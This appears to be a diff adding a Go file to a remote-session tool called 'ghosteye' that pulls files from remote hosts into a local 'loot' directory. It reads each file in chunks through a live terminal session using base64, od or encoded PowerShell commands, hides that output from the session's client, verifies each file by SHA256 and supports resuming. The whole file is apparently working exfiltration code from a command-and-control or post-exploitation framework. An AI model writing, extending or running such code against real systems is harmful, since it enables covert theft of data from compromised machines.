@@ -0,0 +1,226 @@
+package terminal
+
+import (
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"log"
+	"os"
+	"path"
+	"path/filepath"
+	"strconv"
+	"strings"
+
+	"ghosteye/database"
+	"ghosteye/models"
+	"ghosteye/utils"
+)
+
+// LootDir 下载文件的本地保存目录，按用户名分子目录
+const LootDir = "./loot"
+
+// downloadChunkSize 每次读取的远程文件字节数，输出不受终端行长度限制
+const downloadChunkSize = 48 * 1024
+
+// hexPrefix 远程没有base64命令时od十六进制输出的前缀
+const hexPrefix = "hex:"
+
+// DownloadFile 通过会话的终端流分块读取远程文件，保存到本地并校验SHA256。
+// 读取命令的输出在截获期间对客户端隐藏；resumeID大于0时从该传输记录已下载的偏移继续
+func DownloadFile(username, terminalID string, session *models.TerminalSession, remotePath string, resumeID int64) (*Transfer, error) {
+	if session.Backend == nil || !session.Active {
+		return nil, fmt.Errorf("Terminal session %s is not active", terminalID)
+	}
+	
+	var localPath, resumeHash string
+	if resumeID > 0 {
+		record, err := database.GetFileTransfer(username, resumeID)
+		if err != nil {
+			return nil, err
+		}
+		if record == nil {
+			return nil, fmt.Errorf("Transfer %d not found", resumeID)
+		}
+		if record["direction"] != database.TransferDownload || record["status"] != database.TransferPartial || record["local_path"] == "" {
+			return nil, fmt.Errorf("Transfer %d cannot be resumed", resumeID)
+		}
+		if remotePath == "" {
+			remotePath = record["remote_path"].(string)
+		} else if remotePath != record["remote_path"] {
+			return nil, fmt.Errorf("Transfer %d is for %s", resumeID, record["remote_path"])
+		}
+		localPath = record["local_path"].(string)
+		resumeHash = record["sha256"].(string)
+	}
+	
+	size, err := remoteSize(session, remotePath)
+	if err != nil {
+		return nil, err
+	}
+	hash, err := remoteHash(session, remotePath)
+	if err != nil {
+		return nil, err
+	}
+	
+	transfer := &Transfer{
+		Direction: database.TransferDownload,
+		Path:      remotePath,
+		Size:      size,
+		SHA256:    hash,
+	}
+	
+	// 远程文件变化后已下载的部分作废，从头开始
+	var offset int64
+	if resumeID > 0 {
+		if info, err := os.Stat(localPath); err == nil && resumeHash == hash && info.Size() <= size {
+			offset = info.Size()
+		}
+	} else {
+		name := path.Base(strings.ReplaceAll(remotePath, "\\", "/"))
+		localPath = filepath.Join(LootDir, username, utils.GenerateSessionID()[:8]+"_"+name)
+		resumeID, err = database.StartFileTransfer(username, terminalID, database.TransferDownload, "stream", remotePath, size, hash, localPath)
+		if err != nil {
+			return nil, err
+		}
+	}
+	transfer.ID = strconv.FormatInt(resumeID, 10)
+	transfer.LocalPath = localPath
+	
+	if err := os.MkdirAll(filepath.Dir(localPath), 0700); err != nil {
+		return nil, fmt.Errorf("Failed to create loot directory: %v", err)
+	}
+	file, err := os.OpenFile(localPath, os.O_CREATE|os.O_WRONLY, 0600)
+	if err != nil {
+		return nil, fmt.Errorf("Failed to open local file: %v", err)
+	}
+	defer file.Close()
+	if err := file.Truncate(offset); err != nil {
+		return nil, fmt.Errorf("Failed to truncate local file: %v", err)
+	}
+	if _, err := file.Seek(offset, io.SeekStart); err != nil {
+		return nil, fmt.Errorf("Failed to seek local file: %v", err)
+	}
+	if offset > 0 {
+		log.Printf("Resuming download %d of %s at offset %d", resumeID, remotePath, offset)
+	}
+	
+	for offset < size {
+		length := size - offset
+		if length > downloadChunkSize {
+			length = downloadChunkSize
+		}
+		
+		data, err := readRemoteChunk(session, remotePath, offset, length)
+		if err == nil && len(data) == 0 {
+			err = fmt.Errorf("unexpected end of file")
+		}
+		if err == nil {
+			_, err = file.Write(data)
+		}
+		if err != nil {
+			database.UpdateFileTransfer(resumeID, offset, database.TransferPartial, size, hash)
+			reportTransfer(session, terminalID, transfer, offset, true, err)
+			return nil, fmt.Errorf("Failed to download chunk at offset %d, resume with transfer %d: %v", offset, resumeID, err)
+		}
+		
+		offset += int64(len(data))
+		if err := database.UpdateFileTransfer(resumeID, offset, database.TransferPartial, size, hash); err != nil {
+			log.Printf("Failed to update file transfer: %v", err)
+		}
+		reportTransfer(session, terminalID, transfer, offset, false, nil)
+	}
+	
+	// 校验本地文件，不一致时丢弃已下载的内容
+	local, err := fileHash(localPath)
+	if err == nil && local != hash {
+		err = fmt.Errorf("SHA256 mismatch: remote %s, local %s", hash, local)
+		file.Truncate(0)
+		database.UpdateFileTransfer(resumeID, 0, database.TransferPartial, size, hash)
+	}
+	if err != nil {
+		reportTransfer(session, terminalID, transfer, offset, true, err)
+		return nil, err
+	}
+	
+	if err := database.UpdateFileTransfer(resumeID, size, database.TransferComplete, size, hash); err != nil {
+		log.Printf("Failed to update file transfer: %v", err)
+	}
+	reportTransfer(session, terminalID, transfer, size, true, nil)
+	log.Printf("Downloaded %d bytes from %s via terminal session %s", size, remotePath, terminalID)
+	
+	return transfer, nil
+}
+
+// remoteSize 在会话中获取远程文件大小
+func remoteSize(session *models.TerminalSession, remotePath string) (int64, error) {
+	command := fmt.Sprintf("stat -c %%s %s 2>/dev/null || wc -c < %s", utils.QuoteShell(remotePath), utils.QuoteShell(remotePath))
+	if session.OS == models.OSWindows {
+		quoted, err := utils.QuoteCmd(remotePath)
+		if err != nil {
+			return 0, err
+		}
+		command = fmt.Sprintf(`for %%I in (%s) do @echo %%~zI`, quoted)
+	}
+	
+	output, err := RunCommand(session, command, chunkTimeout, true)
+	if err != nil {
+		return 0, fmt.Errorf("Failed to stat remote file: %v", err)
+	}
+	
+	size, err := strconv.ParseInt(strings.TrimSpace(output), 10, 64)
+	if err != nil {
+		return 0, fmt.Errorf("Failed to stat remote file: %s", strings.TrimSpace(output))
+	}
+	return size, nil
+}
+
+// readRemoteChunk 读取远程文件从offset开始的length字节。
+// 类Unix系统优先使用base64编码，没有base64时退回od十六进制输出；Windows使用PowerShell
+func readRemoteChunk(session *models.TerminalSession, remotePath string, offset, length int64) ([]byte, error) {
+	command := fmt.Sprintf("tail -c +%d %s | head -c %d | { base64 2>/dev/null || { echo '%s'; od -An -v -tx1; }; }",
+		offset+1, utils.QuoteShell(remotePath), length, hexPrefix)
+	if session.OS == models.OSWindows {
+		script := fmt.Sprintf(
+			"$f=[IO.File]::OpenRead('%s');[void]$f.Seek(%d,0);$b=New-Object byte[] %d;$n=$f.Read($b,0,%d);$f.Close();[Convert]::ToBase64String($b,0,$n)",
+			strings.ReplaceAll(remotePath, "'", "''"), offset, length, length,
+		)
+		command = "powershell -NoProfile -NonInteractive -EncodedCommand " + utils.EncodePowerShell(script)
+	}
+	
+	output, err := RunCommand(session, command, chunkTimeout, true)
+	if err != nil {
+		return nil, err
+	}
+	
+	encoded := strings.Join(strings.Fields(output), "")
+	if strings.HasPrefix(encoded, hexPrefix) {
+		data, err := hex.DecodeString(strings.TrimPrefix(encoded, hexPrefix))
+		if err != nil {
+			return nil, fmt.Errorf("Failed to decode hex output: %v", err)
+		}
+		return data, nil
+	}
+	
+	data, err := base64.StdEncoding.DecodeString(encoded)
+	if err != nil {
+		return nil, fmt.Errorf("Failed to decode base64 output: %v", err)
+	}
+	return data, nil
+}
+
+// fileHash 计算本地文件的SHA256
+func fileHash(localPath string) (string, error) {
+	file, err := os.Open(localPath)
+	if err != nil {
+		return "", fmt.Errorf("Failed to open local file: %v", err)
+	}
+	defer file.Close()
+	
+	hash := sha256.New()
+	if _, err := io.Copy(hash, file); err != nil {
+		return "", fmt.Errorf("Failed to hash local file: %v", err)
+	}
+	return hex.EncodeToString(hash.Sum(nil)), nil
+}